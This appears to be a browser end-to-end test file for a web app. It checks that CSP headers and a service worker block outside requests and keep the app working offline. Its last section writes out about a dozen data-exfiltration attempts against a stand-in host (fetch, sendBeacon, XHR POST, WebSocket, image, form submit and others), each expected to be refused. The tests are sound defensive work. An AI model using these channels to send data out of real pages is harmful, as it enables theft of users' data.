import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  commonHeaders,
  metaPolicy,
  pagePolicy,
  serviceWorkerPolicy,
  workerPolicy,
} from '../../workers/response-headers';
import { dist, openApp, ready, startHost, type OpenApp } from './harness';

/** What an answer must carry, in the browser's spelling of header names. */
const lower = (headers: Readonly<Record<string, string>>): Record<string, string> =>
  Object.fromEntries(Object.entries(headers).map(([name, value]) => [name.toLowerCase(), value]));

const csp = 'content-security-policy';

describe('a host that sends the headers', () => {
  it('gives the page, the scripts and the service worker a policy each', async () => {
    const host = await startHost();
    const headersOf = async (path: string): Promise<Record<string, string>> =>
      Object.fromEntries((await fetch(host.url + path)).headers);
    expect(await headersOf('')).toMatchObject({ ...lower(commonHeaders), [csp]: pagePolicy });
    expect(await headersOf('index.html')).toMatchObject({ ...lower(commonHeaders), [csp]: pagePolicy });
    expect(await headersOf('service.worker.js')).toMatchObject({ [csp]: serviceWorkerPolicy });
    const scripts = readdirSync(join(dist, 'assets')).filter((name) => name.endsWith('.js'));
    expect(scripts.some((name) => name.includes('.worker'))).toBe(true);
    for (const name of scripts) {
      expect(await headersOf(`assets/${name}`)).toMatchObject({
        ...lower(commonHeaders),
        [csp]: workerPolicy,
      });
    }
    await host.close();
  });

  it('protects the first visit without loading the page twice', async () => {
    const host = await startHost();
    const { page } = await openApp({ host });
    expect(await page.locator(`meta[http-equiv="${csp}" i]`).getAttribute('content')).toBe(metaPolicy);
    expect(host.requests.filter((path) => path === '/')).toHaveLength(1);
    await host.close();
  });
});

describe('a host that sends no headers', () => {
  it('protects page and workers through the service worker', async () => {
    const host = await startHost({ headers: false });
    expect((await fetch(host.url)).headers.get(csp)).toBeNull();
    const { page } = await openApp({ host });
    const workers: Record<string, string>[] = [];
    page.on('response', (response) => {
      if (response.url().includes('.worker')) workers.push(response.headers());
    });
    const response = await page.reload();
    expect(response?.fromServiceWorker()).toBe(true);
    expect(response?.headers()).toMatchObject({ ...lower(commonHeaders), [csp]: pagePolicy });
    await expect.poll(() => workers.length).toBeGreaterThan(0);
    for (const headers of workers)
      expect(headers).toMatchObject({ ...lower(commonHeaders), [csp]: workerPolicy });
    await host.close();
  });
});

describe('without a network', () => {
  it.each([true, false])('the app opens again once it was open (host with headers: %s)', async (headers) => {
    const host = await startHost({ headers });
    const { page, context } = await openApp({ host });
    await host.close();
    await context.setOffline(true);
    await page.reload();
    await ready(page);
    expect(await page.locator('#app h1').first().isVisible()).toBe(true);
  });
});

describe('what is no file of the app', () => {
  it('is refused by the service worker without asking the network', async () => {
    const app = await openApp({ forAxe: true }); // the policy is off: the service worker stands alone
    const { page, host } = app;
    const before = host.requests.length;
    const answers = await page.evaluate(() => {
      const addresses = ['./unlisted.json', './_headers', 'https://example.com/', 'http://127.0.0.1:9/'];
      const ask = (address: string): Promise<string> =>
        fetch(address, { mode: 'no-cors' }).then(String, String);
      return Promise.all(addresses.map(ask));
    });
    expect(answers).toEqual(Array(4).fill('TypeError: Failed to fetch'));
    expect(host.requests.slice(before)).toEqual([]);
    app.expectProblem(/^request to (https:\/\/example.com|http:\/\/127.0.0.1:9)\/|net::ERR_FAILED/);
  });

  it('is not opened as a page either: every address leads to the app', async () => {
    const { page, host } = await openApp();
    await page.goto(`${host.url}no/such/page.html`);
    await ready(page);
    expect(page.url()).toBe(host.url);
  });
});

/** Tries one way out and gives what the page says to it. */
const attempt = (app: OpenApp, way: string): Promise<string> =>
  app.page.evaluate(async (name) => {
    const outside = 'https://example.com/?customers';
    const link = Object.assign(document.createElement('a'), { href: outside });
    const form = Object.assign(document.createElement('form'), { action: outside });
    document.body.append(link, form);
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(outside),
      beacon: () => navigator.sendBeacon(outside, 'customers'),
      request: () => {
        const request = new XMLHttpRequest();
        request.open('POST', outside, false);
        request.send('customers');
      },
      socket: () =>
        new Promise((open, fail) => {
          const socket = new WebSocket('wss://example.com/');
          socket.onopen = open;
          socket.onerror = () => fail(new Error('refused'));
        }),
      image: () =>
        new Promise((load, fail) => {
          const image = new Image();
          image.onload = load;
          image.onerror = () => fail(new Error('refused'));
          image.src = outside;
        }),
      worker: () => new Worker('data:text/javascript,1'),
      handler: () => link.setAttribute('onfocus', 'document.title = "ran"'),
      markup: () => (document.body.innerHTML = '<b></b>'),
      peer: () => new RTCPeerConnection(),
      window: () => String(window.open(outside)),
      location: () => void (location.href = outside),
      link: () => link.click(),
      newWindow: () => Object.assign(link, { target: '_blank' }).click(),
      form: () => form.submit(),
    };
    try {
      return `${await ways[name]?.()}`;
    } catch (error) {
      return `refused: ${(error as Error).name}`;
    } finally {
      link.remove();
      form.remove();
    }
  }, way);

describe('ways out of the page', () => {
  it('lead nowhere', async () => {
    const app = await openApp();
    // That the browser says so is what is wanted here; that nothing left is seen where all traffic would arrive.
    app.expectProblem(
      /Content Security Policy|Trusted(HTML|Script|ScriptURL)'|^request to https:\/\/example.com/,
    );
    const answers: Record<string, string> = {};
    const expected = {
      fetch: 'refused: TypeError',
      beacon: 'true', // answers true and sends nothing
      request: 'refused: NetworkError',
      socket: 'refused: Error',
      image: 'refused: Error',
      worker: 'refused: TypeError',
      handler: 'refused: TypeError',
      markup: 'refused: TypeError',
      peer: 'refused: TypeError',
      window: 'null',
      location: 'undefined',
      link: 'undefined',
      newWindow: 'undefined',
      form: 'undefined',
    };
    for (const way of Object.keys(expected)) answers[way] = await attempt(app, way);
    expect(answers).toEqual(expected);
    expect(app.page.url()).toBe(app.host.url);
    expect(app.context.pages()).toHaveLength(1);
  });
});
